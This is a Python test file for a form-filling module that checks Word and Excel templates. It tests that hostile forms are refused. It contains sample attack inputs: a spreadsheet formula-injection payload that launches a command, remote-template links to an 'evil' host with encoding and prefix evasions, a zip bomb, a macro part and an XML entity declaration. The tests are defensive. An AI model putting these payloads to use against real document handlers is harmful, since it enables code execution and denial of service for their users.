"""The papers that go back to an issuer: marks filled, nothing run, hostile forms refused."""

import io
import zipfile
from typing import Any

import docx
import openpyxl
import pytest

from gezhi.channels.orders import package, papers
from gezhi.kernel.refusal import Invalid

VALUES = {"number": "WH1", "text": "第一行\n第二行", "office": "悦海社区", "issuer": "12345热线"}


def word(*paragraphs: str) -> bytes:
    document = docx.Document()
    for one in paragraphs:
        document.add_paragraph(one)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def book(*cells: str) -> bytes:
    made = openpyxl.Workbook()
    for number, text in enumerate(cells, 1):
        made.active.cell(number, 1).value = text
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


def with_part(data: bytes, name: str, part: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for entry in old.infolist():
            if entry.filename != name:
                new.writestr(entry, old.read(entry))
        new.writestr(name, part)
    return out.getvalue()


def text_of(data: bytes) -> str:
    document = docx.Document(io.BytesIO(data))
    cells = [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    return "\n".join([*(one.text for one in document.paragraphs), *cells])


@pytest.mark.parametrize("paper", ["answer", "return", "extend"])
@pytest.mark.parametrize("suffix", papers.SUFFIXES)
def test_our_own_forms_may_be_kept_and_are_filled(paper: str, suffix: str) -> None:
    form = papers.own(paper, suffix)
    papers.judged(form, suffix)
    made = papers.filled(form, suffix, VALUES)
    said = text_of(made) if suffix == "docx" else _said(made)
    assert "WH1" in said
    assert "第一行\n第二行" in said
    assert "{{" not in said


def _said(data: bytes) -> str:
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    return "\n".join(str(cell.value) for row in sheet.iter_rows() for cell in row if cell.value)


def test_a_mark_that_word_cut_into_pieces_is_filled() -> None:
    document = docx.Document()
    paragraph = document.add_paragraph("单号：")
    for piece in ("{", "{单", "号}", "}。"):
        paragraph.add_run(piece)
    out = io.BytesIO()
    document.save(out)
    assert text_of(papers.filled(out.getvalue(), "docx", VALUES)) == "单号：WH1。"


def test_marks_in_nested_tables_and_heads_are_filled() -> None:
    document = docx.Document()
    document.sections[0].header.paragraphs[0].text = "{{单号}}"
    inner = document.add_table(1, 1).cell(0, 0).add_table(1, 1)
    inner.cell(0, 0).text = "{{number}}"
    out = io.BytesIO()
    document.save(out)
    made = docx.Document(io.BytesIO(papers.filled(out.getvalue(), "docx", VALUES)))
    assert made.sections[0].header.paragraphs[0].text == "WH1"
    assert made.tables[0].cell(0, 0).tables[0].cell(0, 0).text == "WH1"


@pytest.mark.parametrize("evil", ["=cmd|'/c calc'!A1", "+1+1", "@SUM(1)", "-1"])
def test_what_an_issuer_wrote_never_becomes_a_formula(evil: str) -> None:
    made = papers.filled(book("{{单号}}"), "xlsx", {"number": evil})
    cell = openpyxl.load_workbook(io.BytesIO(made)).active["A1"]
    assert (cell.value, cell.data_type) == (evil, "s")


def test_control_signs_spoil_no_document() -> None:
    assert text_of(papers.filled(word("{{内容}}"), "docx", {"text": "好\x00\x0b\ud800\uffff的"})) == "好的"


def test_a_value_that_looks_like_a_mark_is_filled_once() -> None:
    assert text_of(papers.filled(word("{{内容}}"), "docx", {"text": "{{单号}}", "number": "WH1"})) in {
        "{{单号}}"
    }


HYPER = b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://x/attachedTemplate" Target="http://evil/x.dotm" TargetMode="External"/></Relationships>'
RELS = '<?xml version="1.0"{encoding}?><{p}Relationships xmlns{x}="http://schemas.openxmlformats.org/package/2006/relationships"><{p}Relationship Id="rId1" Type="{type}" Target="{target}" TargetMode="External"/></{p}Relationships>'
KINDS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def form_with_link(
    kind: str = "attachedTemplate",
    target: str = "https://x/a.dotm",
    prefix: str = "",
    encoding: str = "utf-8",
) -> bytes:
    """A form whose settings name something elsewhere."""
    said = RELS.format(
        p=f"{prefix}:" if prefix else "",
        x=f":{prefix}" if prefix else "",
        encoding=f' encoding="{encoding}"',
        type=KINDS + kind,
        target=target,
    )
    return with_part(word("{{单号}}"), "word/_rels/settings.xml.rels", said.encode(encoding))


HOSTILE: dict[str, tuple[Any, str, str]] = {
    "nothing": (b"", "docx", "broken_form"),
    "a picture": (b"\x89PNG\r\n\x1a\n" + bytes(40), "docx", "broken_form"),
    "half a form": (word("{{单号}}")[:-200], "docx", "broken_form"),
    "old word": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "docx", "broken_form"),
    "a workbook called docx": (book("{{单号}}"), "docx", "broken_form"),
    "a bomb": (with_part(word("{{单号}}"), "word/x.xml", bytes(30_000_000)), "docx", "bomb"),
    "macros": (with_part(word("{{单号}}"), "word/vbaProject.bin", b"x"), "docx", "macros"),
    "a template far away": (
        with_part(word("{{单号}}"), "word/_rels/settings.xml.rels", HYPER),
        "docx",
        "abroad",
    ),
    "a template at an address that ends like a link": (
        form_with_link(target="https://x/hyperlink"),
        "docx",
        "abroad",
    ),
    "a template in UTF-16": (form_with_link(encoding="utf-16"), "docx", "abroad"),
    "a template behind a prefix": (form_with_link(prefix="r"), "docx", "abroad"),
    "a kind that only ends like a link": (form_with_link("x/hyperlink"), "docx", "abroad"),
    "an address that is called a part": (
        with_part(
            word("{{单号}}"), "word/_rels/settings.xml.rels", HYPER.replace(b' TargetMode="External"', b"")
        ),
        "docx",
        "abroad",
    ),
    "a link that is no XML": (
        with_part(word("{{单号}}"), "word/_rels/settings.xml.rels", b"<Relationships>"),
        "docx",
        "broken_form",
    ),
    "entities": (
        with_part(word("{{单号}}"), "word/settings.xml", b'<!DOCTYPE x [<!ENTITY a "b">]><x/>'),
        "docx",
        "broken_form",
    ),
    "no marks": (word("答复"), "docx", "no_marks"),
    "strange marks": (word("{{密码}}"), "docx", "unknown_marks"),
    "a formula": (book("={{单号}}"), "xlsx", "in_a_formula"),
    "another suffix": (word("{{单号}}"), "docm", "unknown_suffix"),
    "too large": (bytes(papers.MOST_BYTES + 1), "docx", "form_too_large"),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_form_is_refused_with_its_reason(name: str) -> None:
    data, suffix, code = HOSTILE[name]
    with pytest.raises(Invalid) as refused:
        papers.judged(data, suffix)
    assert (refused.value.field, refused.value.code) == ("form", code)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_a_link_that_a_person_presses_may_stay(encoding: str) -> None:
    papers.judged(form_with_link("hyperlink", "https://12345.gov.cn/", encoding=encoding), "docx")


def test_twin_without_the_look_at_relationships_a_template_far_away_would_pass(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(package, "judge_relationship", lambda part, name, attributes: None)
    papers.judged(HOSTILE["a template in UTF-16"][0], "docx")


def test_twin_without_the_measure_a_bomb_would_be_opened(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(papers, "measure", lambda data: None)
    papers.judged(HOSTILE["macros"][0], "docx")


def test_the_libraries_are_loaded_when_somebody_fills_a_form() -> None:
    import subprocess
    import sys

    code = "import gezhi.channels.orders.papers, sys; print({'docx', 'openpyxl'} & set(sys.modules))"
    found = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert found.stdout.strip() == "set()"
